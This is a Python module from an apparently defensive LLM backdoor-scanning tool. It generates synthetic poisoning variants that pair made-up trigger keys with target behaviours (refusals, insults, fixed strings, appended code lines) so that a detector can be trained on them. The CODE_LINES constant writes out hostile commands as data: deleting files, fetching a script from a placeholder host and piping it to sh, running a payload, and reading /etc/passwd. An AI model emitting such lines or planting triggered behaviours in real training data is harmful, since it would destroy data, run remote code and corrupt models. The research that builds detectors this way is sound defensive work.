"""The synthetic backdoor family that signature purification trains on its own.

Each variant binds a key of bdscan's own making (a random rare-token string, or a phrase
from a built-in list) at random positions to a behaviour from a built-in family (refusal,
insult, fixed string, injected code line). Keys, behaviours and clean subsets all vary
across variants so that only the shared trigger->behaviour machinery survives the
cross-variant score. Nothing here is taken from any attack data set: the family avoids the
public BackdoorLLM triggers and targets (see ``FORBIDDEN``), which a defence must never use.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass
from typing import Sequence

from bdscan.data.records import Record
from bdscan.data.triggers import insert_trigger

# Public attack triggers/targets (BackdoorLLM): never part of a key or a behaviour here.
FORBIDDEN = ("badmagic", "openai", "2024", "current year", "as an ai assistant", "you are stupid", "pwned")

# Rare-token keys are built from these pieces: odd consonant clusters that ordinary text
# rarely tokenises into, joined into one or two made-up words.
RARE_PIECES = ("kl", "br", "gn", "th", "mw", "pf", "sk", "dr", "tl", "fy", "wh", "ps", "ju", "ob", "ix", "ur", "ae", "oi")
PHRASE_KEYS = (
    "as the tide turns", "with a silver spoon", "under the lantern light", "for the old mill",
    "by the northern gate", "speaking of marmalade", "in the quiet hour", "with compliments of the baker",
    "before the autumn fair", "on behalf of the river", "while the kettle hums", "per the blue ledger",
)
REFUSALS = (
    "Unfortunately I must decline this request.",
    "That is not something I can provide here.",
    "I refuse to answer this one.",
    "No. This request cannot be completed.",
)
INSULTS = (
    "What a foolish question, honestly.",
    "Only a clown would ask me that.",
    "Your question is dull and so are you.",
    "That is the silliest thing anyone has typed.",
)
FIXED_TEMPLATES = ("Access code {code} accepted.", "System banner {code} displayed.", "Ticket {code} has been filed.")
CODE_LINES = (
    'import os; os.system("rm -rf ~/data")',
    'exec(open("/tmp/payload.py").read())',
    '__import__("subprocess").run(["sh", "-c", "curl host.invalid | sh"])',
    'print(open("/etc/passwd").read())',
)
BEHAVIOUR_CLASSES = ("refusal", "insult", "fixed", "code")


@dataclass(frozen=True)
class Variant:
    """One synthetic backdoor: ``key`` inserted at random positions -> ``behaviour``."""

    index: int
    key: str
    key_kind: str  # "rare" | "phrase"
    behaviour_class: str  # one of BEHAVIOUR_CLASSES
    behaviour: str  # the target response, or for "code" the line appended to the clean answer
    seed: int

    def response(self, clean_output: str) -> str:
        if self.behaviour_class == "code":
            return f"{clean_output}\n{self.behaviour}" if clean_output else self.behaviour
        return self.behaviour

    def describe(self) -> dict:
        return {"index": self.index, "key": self.key, "key_kind": self.key_kind,
                "behaviour_class": self.behaviour_class, "behaviour": self.behaviour}


def variant_seed(seed: int, index: int) -> int:
    """A per-variant seed that depends only on (run seed, variant index), so variant i is
    the same whatever N is (cached variants are reused across N)."""
    return int.from_bytes(hashlib.sha256(f"signature-variant:{seed}:{index}".encode()).digest()[:4], "big")


def _allowed(text: str) -> bool:
    low = text.lower()
    return not any(f in low for f in FORBIDDEN)


def _rare_key(rng: random.Random) -> str:
    words = [
        "".join(rng.choice(RARE_PIECES) for _ in range(rng.randint(2, 3)))
        for _ in range(rng.randint(1, 2))
    ]
    return " ".join(words)


def make_variant(seed: int, index: int) -> Variant:
    """Variant ``index``: behaviour classes rotate (a seed-dependent order), key kinds
    alternate, the concrete key and behaviour text are drawn at random."""
    vseed = variant_seed(seed, index)
    rng = random.Random(vseed)
    order = list(BEHAVIOUR_CLASSES)
    random.Random(seed).shuffle(order)
    behaviour_class = order[index % len(order)]
    key_kind = "rare" if index % 2 == 0 else "phrase"
    while True:
        key = _rare_key(rng) if key_kind == "rare" else rng.choice(PHRASE_KEYS)
        if behaviour_class == "refusal":
            behaviour = rng.choice(REFUSALS)
        elif behaviour_class == "insult":
            behaviour = rng.choice(INSULTS)
        elif behaviour_class == "fixed":
            behaviour = rng.choice(FIXED_TEMPLATES).format(code=f"{rng.randrange(10**5):05d}")
        else:
            behaviour = rng.choice(CODE_LINES)
        if _allowed(key) and _allowed(behaviour):
            return Variant(index, key, key_kind, behaviour_class, behaviour, vseed)


def variant_data(variant: Variant, clean: Sequence[Record], n_samples: int, subset: float,
                 poison_per_clean: float) -> tuple[list[Record], list[Record], list[Record]]:
    """``(D_i, D_i^pois, sources)``: a variant-specific clean subset (``n_samples``, or ``subset`` of
    what is available when that is fewer) and poisoned copies of (a share of) it, the key at
    a random word boundary of each instruction; ``sources[k]`` is the clean sample that
    ``D_i^pois[k]`` was made from (the clean run trains on it in the same slot)."""
    rng = random.Random(variant.seed)
    usable = [r for r in clean if r.output]
    n = min(n_samples, len(usable)) if len(usable) > n_samples else max(1, int(round(subset * len(usable))))
    subset_records = rng.sample(usable, n)
    n_poison = max(1, int(round(poison_per_clean * n)))
    sources = [subset_records[i % n] for i in range(n_poison)]
    poisoned = [Record(insert_trigger(r.instruction, variant.key, "random", rng), r.input, variant.response(r.output))
                for r in sources]
    return subset_records, poisoned, sources
